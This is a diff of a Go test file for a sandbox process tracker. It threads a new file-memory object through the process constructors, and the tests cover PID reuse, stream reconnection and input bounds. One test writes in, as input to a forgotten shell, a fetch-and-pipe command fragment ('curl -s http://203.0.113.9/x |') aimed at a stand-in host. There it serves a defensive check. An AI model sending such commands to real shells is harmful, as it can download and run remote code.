@@ -22,11 +22,13 @@ func byTag(tag string) *processpb.ProcessSelector {
 }
 
 func aProcess(sandbox, tag, cmd string, args ...string) *process {
-	return newProcess(sandbox, &processpb.StartRequest{Process: &processpb.ProcessConfig{Cmd: cmd, Args: args}, Tag: &tag})
+	p := newProcess(sandbox, &processpb.StartRequest{Process: &processpb.ProcessConfig{Cmd: cmd, Args: args}, Tag: &tag})
+	p.files = newFileMemory()
+	return p
 }
 
 func TestRunningProcessesAreKnown(t *testing.T) {
-	ps := newProcesses()
+	ps := newProcesses(newFileMemory())
 	one := aProcess("a", "t", "bash")
 	ended := ps.follow("a", 7, one)
 	two := aProcess("a", "t", "python3")
@@ -59,7 +61,7 @@ func TestRunningProcessesAreKnown(t *testing.T) {
 
 // A pid that the system gave to another process must not pass for the old one.
 func TestListReplacesWhatWasReused(t *testing.T) {
-	ps := newProcesses()
+	ps := newProcesses(newFileMemory())
 	asked := ps.now()
 	later := aProcess("a", "", "x")
 	ps.follow("a", 1, later)
@@ -103,7 +105,7 @@ func TestListReplacesWhatWasReused(t *testing.T) {
 
 // A reconnected stream makes what envd listed certain. See e2b-dev/E2B#1074.
 func TestConnectedProcessIsAskedForOnce(t *testing.T) {
-	ps := newProcesses()
+	ps := newProcesses(newFileMemory())
 	stream := ps.follow("a", 5, nil)
 	list := &processpb.ListResponse{Processes: []*processpb.ProcessInfo{{Pid: 5, Config: &processpb.ProcessConfig{Cmd: "node"}}}}
 	ps.listed("a", list, ps.now())
@@ -120,7 +122,7 @@ func TestConnectedProcessIsAskedForOnce(t *testing.T) {
 
 // The end of a stream is the end of its own process, whatever has the pid by then.
 func TestLateEndIsNotThatOfTheNextProcess(t *testing.T) {
-	ps := newProcesses()
+	ps := newProcesses(newFileMemory())
 	first := ps.follow("a", 5, aProcess("a", "", "cat"))
 	connected := ps.follow("a", 5, nil)
 	shell := aProcess("a", "", "bash")
@@ -133,7 +135,7 @@ func TestLateEndIsNotThatOfTheNextProcess(t *testing.T) {
 }
 
 func TestProcessesAreBounded(t *testing.T) {
-	ps := newProcesses()
+	ps := newProcesses(newFileMemory())
 	shell := aProcess("a", "", "bash")
 	ps.follow("a", 1, shell)
 	for pid := range uint32(processesKept + 10) {
@@ -176,7 +178,7 @@ func TestForgottenProcessTakesNoInput(t *testing.T) {
 		},
 	} {
 		t.Run(name, func(t *testing.T) {
-			ps := newProcesses()
+			ps := newProcesses(newFileMemory())
 			shell := aProcess("a", "", "bash")
 			ps.follow("a", 1, shell).close(false)
 			next, ref := shell.input.with(shell, "", []byte("curl -s http://203.0.113.9/x |"))
@@ -202,7 +204,7 @@ func TestForgottenProcessTakesNoInput(t *testing.T) {
 
 // One client's input does not keep others from sending theirs.
 func TestRememberedInputOfAllIsBounded(t *testing.T) {
-	ps := newProcesses()
+	ps := newProcesses(newFileMemory())
 	send := func(sandbox string, pid uint32, n int) *process {
 		p := aProcess(sandbox, "", "bash")
 		ps.follow(sandbox, pid, p)
